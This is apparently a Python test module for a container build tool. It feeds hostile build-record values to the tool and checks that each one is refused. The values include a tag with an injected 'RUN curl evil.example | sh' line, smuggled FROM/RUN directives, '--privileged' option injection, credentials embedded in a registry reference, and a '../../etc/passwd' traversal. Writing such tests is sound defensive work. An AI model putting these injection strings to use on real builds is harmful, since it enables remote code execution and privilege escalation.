"""Hostile values in build/R/record.json: build/ may be another job's artifact, and what a record says
reaches Dockerfiles (a derived image's FROM), command lines (docker tag, skopeo) and labels. Each value
of its type but not of its form (workspace/sections.py) is refused as the record is read: one line
naming the file and the key, exit 2, nothing built, pushed or written, no credential echoed."""

from __future__ import annotations

import json

from .hostile import SECRET, HostileCase, a_key, dev, record, setup_all

D64 = "sha256:" + "0" * 64
GOOD = {"release": "dev", "platform": "linux/amd64", "image_id": D64, "context_sha256": "0" * 64,
        "tags": ["nvcr.io/nvidia/pytorch:dev-py3"], "pushed": {}}


def a_record(**changes) -> str:
    return json.dumps({**GOOD, **changes})


# (name, the record's text, the key the message names)
HOSTILE_RECORDS = [
    ("tag-newline", a_record(tags=["nvcr.io/nvidia/pytorch:dev-py3\nRUN curl evil.example | sh"]), "tags.0"),
    ("tag-quote", a_record(tags=['nvcr.io/nvidia/pytorch:dev-py3" \\']), "tags.0"),
    ("image-id-newline", a_record(image_id=D64 + "\nFROM evil"), "image_id"),
    ("image-id-option", a_record(image_id="--privileged"), "image_id"),
    ("pushed-digest-quote", a_record(pushed={"127.0.0.1:5000/nvidia/pytorch:dev-py3": {"digest": D64 + '"'}}),
     "pushed.'127.0.0.1:5000/nvidia/pytorch:dev-py3'.digest"),
    ("pushed-ref-newline", a_record(pushed={"127.0.0.1:5000/nvidia/pytorch:dev-py3\nLABEL x=y": {"digest": D64}}),
     "pushed"),
    ("pushed-ref-credentials", a_record(pushed={f"u:{SECRET}@127.0.0.1:5000/nvidia/pytorch:dev-py3": {"digest": D64}}),
     "pushed"),
    ("base-image-newline", a_record(base_image="debian:bookworm\nRUN evil"), "base_image"),
    ("registry-path", a_record(registry="evil.example/x y"), "registry"),
    ("platform-option", a_record(platform="linux/amd64 --privileged"), "platform"),
    ("context-not-hex", a_record(context_sha256="../../etc/passwd"), "context_sha256"),
]


def record_value_cases(add) -> None:
    klass = "record values"
    keys = setup_all(a_key("keys/trusted.pub", public=True), a_key("keys/signing.key"))
    for name, text, key in HOSTILE_RECORDS:
        for argv in (("push", "--release", "dev", "--registry", "127.0.0.1:9"),
                     ("promote", "--release", "dev", "--from", "127.0.0.1:9", "--to", "127.0.0.1:8",
                      "--trusted-key", "keys/trusted.pub")):
            add(HostileCase(f"record-{name}-{argv[0]}", klass, argv, setup_all(dev, keys, record(text)),
                            mentions=("build/dev/record.json", f"{key}: expected "), absent=(SECRET, "\nRUN", "\nFROM")))
    # a record another step reads before it does anything
    for name, argv in [("smoke", ("smoke", "--release", "dev")), ("sbom", ("sbom", "--release", "dev")),
                       ("attest", ("attest", "--release", "dev", "--registry", "127.0.0.1:9",
                                   "--key", "keys/signing.key"))]:
        add(HostileCase(f"record-tag-newline-{name}", klass, argv, setup_all(dev, keys, record(HOSTILE_RECORDS[0][1])),
                        mentions=("build/dev/record.json", "tags.0: expected "), absent=("\nRUN",),
                        after=lambda project, outside: None if not (project.root / "build" / "dev" / "Dockerfile")
                        .exists() else "build/dev/ was rendered"))
